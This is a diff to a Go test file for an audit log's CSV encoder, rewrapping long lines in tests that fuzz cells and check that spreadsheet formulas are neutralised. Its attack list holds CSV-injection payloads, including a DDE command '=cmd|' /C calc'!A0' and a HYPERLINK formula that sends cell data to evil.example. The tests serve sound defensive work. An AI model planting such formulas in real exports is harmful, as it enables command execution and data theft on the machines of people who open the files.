@@ -18,7 +18,10 @@ import (
 func fromRow(t interface{ Fatal(...any) }, row []string) map[string]any {
 	numbers := []string{"v", "seq", "run_seq", "duration_ms", "bytes", "exit_code"}
 	always := map[string][]string{
-		"":                  {"v", "kind", "seq", "ts", "run_seq", "run_id", "trace_id", "tenant", "agent", "severity", "bundle_digest", "effective_digest"},
+		"": {
+			"v", "kind", "seq", "ts", "run_seq", "run_id", "trace_id", "tenant", "agent", "severity",
+			"bundle_digest", "effective_digest",
+		},
 		audit.KindDecision:  {"cap", "op", "target", "args_hash", "decision", "reason"},
 		audit.KindCallDone:  {"verb", "status", "duration_ms", "bytes", "result_hash"},
 		audit.KindCapsSwap:  {"source", "before", "after"},
@@ -81,11 +84,18 @@ func TestRowIsTheRecord(t *testing.T) {
 		sameAsJSON(t, &log[i], rows[i+1])
 	}
 	// encoding/csv reads CR LF within a cell as LF, so there are none here.
-	anything := rapid.StringOf(rapid.OneOf(rapid.SampledFrom([]rune("=+-@'\"\t\n ,;|＝é\ufeff")), rapid.RuneFrom([]rune("ab1"))))
+	anything := rapid.StringOf(rapid.OneOf(rapid.SampledFrom([]rune("=+-@'\"\t\n ,;|＝é\ufeff")),
+		rapid.RuneFrom([]rune("ab1"))))
 	rapid.Check(t, func(t *rapid.T) {
 		r := audit.Record{
-			Seq: 1, RunSeq: 1, Time: time.UnixMilli(0).UTC(), Kept: true, Head: audit.Head{RunID: "r", Agent: anything.Draw(t, "agent")},
-			Decision: &audit.DecisionRecord{Cap: "fs.read", Op: anything.Draw(t, "op"), Target: anything.Draw(t, "target"), Label: anything.Draw(t, "label"), Reason: "granted"},
+			Seq: 1, RunSeq: 1, Time: time.UnixMilli(0).UTC(), Kept: true, Head: audit.Head{
+				RunID: "r",
+				Agent: anything.Draw(t, "agent"),
+			},
+			Decision: &audit.DecisionRecord{
+				Cap: "fs.read", Op: anything.Draw(t, "op"), Target: anything.Draw(t, "target"),
+				Label: anything.Draw(t, "label"), Reason: "granted",
+			},
 		}
 		enc, err := New(CSV, Options{})
 		if err != nil {
@@ -122,7 +132,8 @@ func computes(cell string) bool {
 // is that each computes as it is.
 func TestCellsAreNoFormulas(t *testing.T) {
 	for _, attack := range []string{
-		"=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", " =1+1", "\t=1+1", "\r=1", "\n=1", "＝1+1", "\ufeff=1", "=HYPERLINK(\"http://evil.example?\"&A1)",
+		"=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", " =1+1", "\t=1+1", "\r=1", "\n=1", "＝1+1", "\ufeff=1",
+		"=HYPERLINK(\"http://evil.example?\"&A1)",
 	} {
 		if !computes(attack) {
 			t.Errorf("%q is no attack", attack)
